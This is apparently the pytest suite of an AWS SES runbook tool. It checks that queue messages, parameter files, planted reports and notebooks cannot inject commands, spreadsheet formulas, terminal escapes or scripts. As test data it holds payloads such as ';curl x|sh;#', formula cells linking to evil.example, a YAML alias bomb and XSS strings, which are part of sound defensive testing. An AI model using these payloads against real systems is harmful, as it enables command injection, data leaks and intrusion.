"""Hostile input: what comes from the queue, a reports root, a message, a parameter file or a
teammate's notebook cannot crash, hang, mislead or reach out. Each test stages one attack."""

from __future__ import annotations

import csv
import json
import os
import shlex
import subprocess
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest

from ses_runbook.core import context as context_mod
from ses_runbook.core import files, foreign
from ses_runbook.core import params as params_mod
from ses_runbook.core.commands import aws_command
from ses_runbook.core.display import markup_text, table_text, terminal_text
from ses_runbook.core.errors import ForeignDataError, OutputError, ParameterError
from ses_runbook.core.redact import csv_cell, csv_value, mask_address, mask_addresses
from ses_runbook.core.results import MIME_TYPE
from ses_runbook.frontends import lab
from ses_runbook.remediation import feedback_steps
from ses_runbook.runs import bundle, history, storage
from ses_runbook.sources import feedback
from support import run_cli

HOSTILE = [";curl x|sh;#", "$(id)", "`id`", "a b'c\"d", "x\ny"]
FORMULAS = ['=HYPERLINK("http://evil.example/?x")@x.com', "+cmd|' /C calc'!A0@x.com", "@SUM(1+1)@x.com"]
ALIAS_BOMB = "\n".join(
    [f"a0: &a0 [{', '.join(['x'] * 9)}]"]
    + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    + [f"domain: [{', '.join(['*a8'] * 9)}]", ""]
)


def _bounce(address: str, **mail: object) -> str:
    return json.dumps(
        {
            "notificationType": "Bounce",
            "mail": {"timestamp": "2026-11-01T10:00:00.000Z", "source": "no-reply@thephenom.app", **mail},
            "bounce": {
                "bounceType": "Permanent",
                "bounceSubType": "General",
                "timestamp": "2026-11-01T10:00:01.000Z",
                "bouncedRecipients": [{"emailAddress": address}],
            },
        }
    )


# -- the bounded reader ----------------------------------------------------------------------------
@pytest.mark.parametrize("depth", [200, 10_000, 200_000])
def test_deep_json_is_refused_in_one_line(depth: int) -> None:
    with pytest.raises(ForeignDataError, match="nested deeper than 64 levels"):
        foreign.read_json("[" * depth + "]" * depth, "summary.json")


def test_big_json_is_refused_before_it_is_parsed() -> None:
    with pytest.raises(ForeignDataError, match="larger than"):
        foreign.read_json(b" " * (foreign.MAX_BYTES + 1), "summary.json")


def test_lone_surrogates_are_made_writable() -> None:
    value = foreign.read_json('{"a\\udc00": ["x\\ud800@example.com"]}', "queue message")
    json.dumps(value, ensure_ascii=False).encode("utf-8")  # would raise UnicodeEncodeError


def test_yaml_alias_bomb_is_refused_without_expanding_it() -> None:
    with pytest.raises(ForeignDataError, match="expands to more than") as refused:
        foreign.read_yaml(ALIAS_BOMB, "parameter file 'p.yaml'")
    assert "x, x" not in str(refused.value) and "['x'" not in str(refused.value)
    assert foreign.read_yaml("a: &x [1, 2]\nb: *x\n", "f") == {"a": [1, 2], "b": [1, 2]}  # a few aliases are fine


def test_alias_bomb_in_a_parameter_file_is_one_line_exit_2(tmp_path: Path) -> None:
    path = tmp_path / "bomb.yaml"
    path.write_text(ALIAS_BOMB)
    with pytest.raises(ParameterError, match="expands to more than"):
        params_mod.load([path], environ={})
    proc = run_cli("check", "-f", str(path), timeout=60)
    assert proc.returncode == 2 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert "expands to more than" in proc.stderr and "'x'" not in proc.stderr


# -- the feedback queue ----------------------------------------------------------------------------
def test_hostile_notifications_are_counted_and_skipped() -> None:
    bodies = [
        *(_bounce(a) for a in FORMULAS),
        "[" * 10_000 + "]" * 10_000,
        _bounce("jane@example.com", tags="not-a-mapping"),
        _bounce("surrogate\ud800@example.com"),
        json.dumps({"notificationType": "Bounce", "mail": {}, "bounce": "a string"}),
        _bounce(["a", "list"]),  # type: ignore[arg-type]
    ]
    rows, counts = feedback.parse(bodies)
    assert counts == {"messages": 8, "notifications": 6, "unrelated": 0, "malformed": 2}
    tags = next(r for r in rows if r["recipient"] == "jane@example.com")["tags"]
    assert tags is None
    assert "2 malformed message(s)" in feedback.notes_text({**counts, "messages_read": 8})


def test_the_export_holds_no_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
    rows, _ = feedback.parse([*(_bounce(a) for a in FORMULAS), _bounce("-1+1@x.com"), _bounce("x\ud800@x.com")])
    path = feedback.export(feedback.removals(feedback.frame(rows)), tmp_path / "remove.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    read = {r["address"] for r in feedback.read_export(path)}
    assert {a.lower() for a in FORMULAS} <= read  # read back as they were


def test_csv_cells_follow_owasp() -> None:
    for value in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_cell(value) == "'" + value and csv_value(csv_cell(value)) == value
    assert csv_cell("jane@example.com") == "jane@example.com" and csv_cell(None) == "" and csv_cell(float("nan")) == ""
    assert csv_cell(1.5) == "1.5" and csv_cell(-1) == "'-1"  # a number is written as itself (a negative one quoted)
    # only the quote csv_cell added is taken off: a value that starts with ' of its own stays whole
    assert csv_value("plain") == "plain" and csv_value("'plain") == "'plain" and csv_value("=x") == "=x"


def test_masking_splits_at_the_last_at() -> None:
    assert mask_address('=HYPERLINK("http://a@evil.example/?q=1")@x.com') == "=***@x.com"
    assert mask_address("@SUM(1+1)@x.com") == "@***@x.com"
    assert feedback.mask("jane.doe@example.com") == "j***@example.com"
    assert mask_address("not an address") == "not an address" and mask_address(None) is None
    assert (
        mask_addresses("to bob@x.example and ann@y.example", {"ann@y.example"}) == "to b***@x.example and ann@y.example"
    )


def test_export_never_writes_through_a_link(tmp_path: Path) -> None:
    target = tmp_path / "precious"
    target.write_text("keep me\n")
    os.chmod(target, 0o644)
    link = tmp_path / "remove.csv"
    link.symlink_to(target)
    rows, _ = feedback.parse([_bounce("a@example.com")])
    with pytest.raises(feedback.FeedbackError, match="symbolic link"):
        feedback.export(feedback.removals(feedback.frame(rows)), link)
    assert target.read_text() == "keep me\n" and (target.stat().st_mode & 0o777) == 0o644


@pytest.mark.parametrize("sandbox", ["bounce-spike"], indirect=True)
def test_09_feedback_with_hostile_messages_on_the_queue(sandbox, tmp_path: Path) -> None:
    sqs, url = sandbox.box.client("sqs"), sandbox.box.feedback_queue_url
    for body in [*(_bounce(a) for a in FORMULAS), "[" * 10_000 + "]" * 10_000, _bounce("t@x.com", tags="x")]:
        sqs.send_message(QueueUrl=url, MessageBody=body)
    export = tmp_path / "remove.csv"
    proc = sandbox.cli("run", "09", "--out", str(tmp_path / "r"), "-p", "feedback_export_file", str(export))
    assert proc.returncode in (0, 1), proc.stderr
    assert "malformed message(s)" in (tmp_path / "r" / "09_feedback.html").read_text()
    with open(export, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


# -- a planted summary.json ----------------------------------------------------------------------
def _plant(root: Path, name: str, text: str) -> Path:
    folder = root / "123456789012" / "us-east-1" / name
    folder.mkdir(parents=True)
    (folder / "summary.json").write_text(text)
    return folder


def _summary(**changes: object) -> dict:
    base = {
        "worst": "ok",
        "run": {"started": "2026-11-01T10:00:00Z", "account": "123456789012", "region": "us-east-1"},
        "checks": [{"id": "quota.headroom", "status": "ok", "summary": "fine"}],
        "figures": {"bounce_rate": 0.01},
    }
    return {**base, **changes}


@pytest.mark.parametrize(
    "planted",
    [
        json.dumps(_summary(figures={"bounce_rate": "lots"})),
        json.dumps(_summary(checks=[{"id": 7, "status": "ok"}])),
        json.dumps(_summary(thresholds={"bounce_rate": {"warn": "x", "fail": 1}})),
        "[" * 200_000,
    ],
    ids=["string-figures", "integer-id", "string-thresholds", "deep"],
)
def test_a_planted_summary_is_skipped_with_one_warning(tmp_path: Path, planted: str) -> None:
    _plant(tmp_path, "20261101T100000Z", json.dumps(_summary()))
    _plant(tmp_path, "20261102T100000Z", planted)
    root = storage.open_root(str(tmp_path))
    said: list[str] = []
    runs = history.load(root, warn=said.append)
    assert [r.name for r in runs] == ["20261101T100000Z"] and len(said) == 1 and "20261102T100000Z" in said[0]
    found = history.previous_run(root, "123456789012", "us-east-1", said.append)
    assert found is not None and found[0].name == "20261101T100000Z" and len(said) == 2
    proc = run_cli("history", "--reports", str(tmp_path))
    assert proc.returncode == 0, proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1 and "skipped" in proc.stderr


def test_a_huge_summary_is_not_read_whole(tmp_path: Path) -> None:
    folder = _plant(tmp_path, "20261102T100000Z", "")
    with open(folder / "summary.json", "wb") as handle:
        handle.truncate(64 * 1024 * 1024)  # sparse: costs no disk
    stored = next(storage.open_root(str(tmp_path)).runs())
    assert stored.summary is not None and len(stored.summary) == foreign.MAX_BYTES + 1
    with pytest.raises(ValueError, match="larger than"):
        history.parse_summary(stored.summary)


def test_history_prints_no_markup_or_escape_from_a_check_id(tmp_path: Path) -> None:
    checks = [{"id": "[bold red]x[/]\x1b[2J\x1b]8;;http://evil\x07y", "status": "fail", "summary": ""}]
    _plant(tmp_path, "20261101T100000Z", json.dumps(_summary(worst="fail", checks=checks)))
    proc = run_cli("history", "--reports", str(tmp_path))
    assert proc.returncode == 0, proc.stderr
    assert "\x1b" not in proc.stdout and "[bold red]x[/]" in proc.stdout.replace("\n", "")


@pytest.mark.parametrize("sandbox", ["healthy"], indirect=True)
def test_run_into_a_root_with_a_planted_summary_exits_as_its_checks_say(sandbox, tmp_path: Path) -> None:
    root = tmp_path / "R"
    _plant(root, "20261101T100000Z", json.dumps(_summary(figures={"bounce_rate": "lots", "quota_used": "1"})))
    proc = sandbox.cli("run", "--reports", str(root), "00")
    assert proc.returncode == 0, proc.stderr
    assert [line for line in proc.stderr.splitlines() if "skipped" in line and "summary.json" in line]
    runs = sorted(p.name for p in (root / "123456789012" / "us-east-1").iterdir())
    assert len(runs) == 2 and not (root / "123456789012" / "us-east-1" / runs[-1] / "INCOMPLETE").exists()


# -- DKIM: many signatures ------------------------------------------------------------------------
def test_many_dkim_signatures_parse_the_message_once_and_judge_a_few(monkeypatch) -> None:
    import dkim

    from ses_runbook.sources.mailauth import dkim as dkim_auth

    made: list[int] = []
    real = dkim.DKIM

    class Counting(real):  # type: ignore[misc, valid-type]
        def __init__(self, *args, **kwargs) -> None:
            made.append(1)
            super().__init__(*args, **kwargs)

    monkeypatch.setattr(dkim, "DKIM", Counting)
    signature = b"DKIM-Signature: v=1; a=rsa-sha256; d=example.org; s=sel; h=from; bh=AAAA; b=AAAA\r\n"
    raw = signature * 10_000 + b"From: a@example.org\r\nSubject: hi\r\n\r\nbody\r\n"
    lookup = SimpleNamespace(
        params=SimpleNamespace(dns_timeout_s=1), query=lambda name, rtype: SimpleNamespace(values=[])
    )
    rows = dkim_auth.verify(raw, lookup)  # type: ignore[arg-type]
    assert len(rows) == dkim_auth.MAX_SIGNATURES and len(made) == 1


# -- the terminal ---------------------------------------------------------------------------------
def test_terminal_text_removes_every_escape() -> None:
    hostile = "a\x1b[2J\x1b[31mred\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\\x07\x9b2J\r\u202eb\x00"
    assert terminal_text(hostile) == "aredlinkb"
    assert markup_text("[bold red]x[/]") == "\\[bold red]x\\[/]"
    assert "\x1b" not in table_text([{"subject": "\x1b[2Jcleared"}])


def test_mail_test_prints_no_escape_from_the_message(tmp_path: Path) -> None:
    path = tmp_path / "hostile.eml"
    path.write_bytes(
        b"From: \x1b]8;;http://evil.example\x07Bank\x1b]8;;\x07 <a@example.org>\r\n"
        b"To: b@example.net\r\nSubject: \x1b[2J\x1b[31mURGENT\x1b[0m [bold]x[/]\r\n"
        b"Message-ID: <1@example.org>\r\nDate: Sun, 01 Nov 2026 10:00:00 +0000\r\n\r\nbody\r\n"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith(("AWS_", "SES_RUNBOOK_"))}
    proc = run_cli(
        "mail-test", str(path), "-p", "dns_nameservers", "127.0.0.1:9", "-p", "dns_timeout_s", "0.2", env=env
    )
    assert "worst:" in proc.stdout and "URGENT" in proc.stdout, proc.stderr  # judged (DNS is down: error)
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout and "\x1b" not in proc.stderr


# -- commands to copy ------------------------------------------------------------------------------
@pytest.mark.parametrize("value", HOSTILE)
def test_every_printed_command_quotes_hostile_values(value: str) -> None:
    params = params_mod.Params().model_copy(
        update={
            "feedback_queue_url": f"https://sqs.us-east-1.amazonaws.com/1/q{value}",
            "feedback_export_file": f"/tmp/x{value}.csv",
            "alarm_topic_arn": f"arn:aws:sns:us-east-1:1:t{value}",
            "endpoint_url": f"http://127.0.0.1:5050/{value}",
            "domain": f"d{value}.example",
        }
    )
    receive = shlex.split(feedback.receive_command(params))
    assert f"https://sqs.us-east-1.amazonaws.com/1/q{value}" in receive
    assert f"http://127.0.0.1:5050/{value}" in receive
    for command in feedback_steps.alarm_commands(params):
        words = shlex.split(command)
        assert words[0] == "aws" and f"http://127.0.0.1:5050/{value}" in words
    assert f"arn:aws:sns:us-east-1:1:t{value}" in shlex.split(feedback_steps.alarm_commands(params)[-1])
    loop = feedback_steps.suppress_commands(params)[0]
    assert shlex.split(loop)[:4] == ["tail", "-n", "+2", f"/tmp/x{value}.csv"]
    words = shlex.split(aws_command(params, "ses", "get-identity-dkim-attributes", "--identities", params.domain))
    assert words[:5] == ["aws", "ses", "get-identity-dkim-attributes", "--identities", f"d{value}.example"]


# -- files -----------------------------------------------------------------------------------------
def test_out_on_a_folder_holding_files_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "report"
    out.mkdir()
    (out / "index.html").write_text("earlier report")
    (out / "summary.json").symlink_to(tmp_path / "elsewhere")
    proc = run_cli("run", "--out", str(out), "00", timeout=60)
    assert proc.returncode == 2 and len(proc.stderr.strip().splitlines()) == 1 and "holds files" in proc.stderr
    assert (out / "index.html").read_text() == "earlier report" and not (tmp_path / "elsewhere").exists()


def test_files_are_never_written_through_a_link(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(tmp_path / "target")
    with pytest.raises(OutputError, match="symbolic link"):
        files.write_text(tmp_path / "link", "x")
    assert not (tmp_path / "target").exists()
    (tmp_path / "there").write_text("old")
    with pytest.raises(OutputError, match="not overwritten"):
        files.write_text(tmp_path / "there", "new", overwrite=False)


# -- the environment ---------------------------------------------------------------------------------
def test_an_explicit_null_in_a_parameter_file_wins_over_the_environment(tmp_path: Path) -> None:
    path = tmp_path / "phenom.yaml"
    path.write_text("endpoint_url: null\nfeedback_export_file: null\n")
    environ = {"SES_RUNBOOK_ENDPOINT_URL": "http://127.0.0.1:5050", "SES_RUNBOOK_FEEDBACK_EXPORT_FILE": "/tmp/x"}
    loaded = params_mod.load([path], environ=environ)
    assert loaded.endpoint_url is None and loaded.feedback_export_file is None
    assert params_mod.load(environ=environ).endpoint_url == "http://127.0.0.1:5050"  # unset: filled
    assert "SES_RUNBOOK_ENDPOINT_URL" not in params_mod.kernel_environ({**environ, "PATH": "/bin"})


def test_a_non_aws_endpoint_says_so_first() -> None:
    assert context_mod.not_aws("https://email.us-east-1.amazonaws.com") is None
    assert context_mod.not_aws(None) is None
    assert "is not AWS" in (context_mod.not_aws("http://127.0.0.1:5050") or "")
    proc = run_cli("check", "-p", "endpoint_url", "http://127.0.0.1:9", "-p", "max_attempts", "1", timeout=120)
    assert proc.stderr.splitlines()[0].endswith("is not AWS: this run reads that endpoint, not an AWS account")


def test_the_lab_token_is_never_on_the_command_line(monkeypatch, tmp_path: Path) -> None:
    seen: dict = {}

    class Proc:
        pid = 2**22 + 12345  # no such process: nothing to stop

        def wait(self, timeout: float | None = None) -> int:
            return 0

        def poll(self) -> int:
            return 0

    def popen(args, **kwargs):
        seen.update(args=args, env=kwargs["env"])
        return Proc()

    monkeypatch.setattr(subprocess, "Popen", popen)
    assert lab.serve(tmp_path, token="s3cr3t-token") == 0
    assert not [a for a in seen["args"] if "s3cr3t-token" in a] and seen["env"]["JUPYTER_TOKEN"] == "s3cr3t-token"


# -- export of a teammate's notebook -------------------------------------------------------------------
def _investigation(folder: Path, outputs: list[dict]) -> None:
    params = params_mod.load(environ={})
    context = context_mod.run_block(params, None, account="123456789012")
    (folder / lab.CONTEXT_FILE).write_text(json.dumps(context, default=str))
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("x", execution_count=1)
    cell.outputs = [nbformat.v4.new_output("display_data", data=data) for data in outputs]
    nb.cells = [
        nbformat.v4.new_markdown_cell("![tracker](http://evil.example/t.png) <img src=x onerror=alert(1)>"),
        cell,
    ]
    nbformat.write(nb, folder / "00_health_check.ipynb")


def test_export_sanitises_a_notebooks_html_and_loads_nothing_from_elsewhere(tmp_path: Path) -> None:
    folder = tmp_path / "inv"
    folder.mkdir()
    _investigation(
        folder,
        [
            {"text/html": "<img src=x onerror=alert(1)><script>alert(2)</script><b>kept</b>"},
            {"text/html": "<img src='https://evil.example/pixel.gif'><div style='background:url(http://e/x)'>s</div>"},
            {"text/markdown": "[link](javascript:alert(3)) ![i](//evil.example/i.png)"},
            {"image/svg+xml": "<svg onload=alert(4)></svg>"},
            {MIME_TYPE: {"checks": [{"id": 5, "status": "nope"}], "aws_calls": {"total": "many"}}},
        ],
    )
    out = tmp_path / "html"
    summary = lab.export(folder, out)
    page = (out / "report.html").read_text()
    assert "kept" in page
    for bad in ("onerror", "<script>alert", "javascript:", "onload", "evil.example"):
        assert bad not in page, bad
    assert bundle.external_references((out / "00_health_check.html").read_text(), None) == []
    assert summary["run"]["aws_calls"]["total"] == 0


def test_export_into_a_folder_holding_files_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "inv"
    folder.mkdir()
    _investigation(folder, [{"text/plain": "x"}])
    out = tmp_path / "out"
    out.mkdir()
    (out / "index.html").write_text("earlier")
    with pytest.raises(OutputError, match="holds files"):
        lab.export(folder, out)
